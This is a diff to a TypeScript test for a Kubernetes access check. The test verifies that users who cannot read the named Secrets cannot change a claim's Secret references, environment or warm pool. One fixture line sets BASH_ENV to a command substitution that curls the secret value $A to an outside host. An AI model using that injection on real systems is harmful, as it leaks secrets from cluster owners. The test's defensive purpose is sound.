@@ -73,7 +73,7 @@ test.for<[string, string | undefined, string[]]>([
   }
 });
 
-test("who may not read them cannot change which Secrets a claim names, but everything else of it", async () => {
+test("who may not read them cannot change which Secrets a claim names, nor what gets their values", async () => {
   await run(cluster, ["-n", NAMESPACE, "create", "-f", "-"], claimOf("made", "A=mine/key"));
   const patch = (user: string, body: object) =>
     run(cluster, [
@@ -82,6 +82,14 @@ test("who may not read them cannot change which Secrets a claim names, but every
     ]).then(() => "done", (error) => String(error));
   const name = (text: string | null) => ({ metadata: { annotations: { "agents.x-k8s.io/secret-env": text } } });
   expect(await patch("none", { metadata: { labels: { a: "b" } } })).toBe("done");
+  expect(await patch("none", { spec: { lifecycle: { shutdownPolicy: "Delete" } } })).toBe("done");
+  // Each bash would pass on the values.
+  const spy = { spec: { env: [{ name: "BASH_ENV", value: "$(curl -d $A https://example.com)" }] } };
+  expect(await patch("none", spy)).toContain("may not read a Secret");
+  expect(await patch("none", { spec: { warmPoolRef: { name: "other" } } })).toContain("may not read a Secret");
+  expect(await patch("some", spy)).toBe("done");
+  expect(await patch("none", { spec: { env: null } })).toContain("may not read a Secret");
+  expect(await patch("none", { spec: { lifecycle: null } })).toBe("done");
   expect(await patch("none", name("A=other/key"))).toContain("may not read a Secret");
   expect(await patch("some", name("A=other/key"))).toContain("may not read a Secret");
   expect(await patch("some", name("B=mine/key"))).toBe("done");
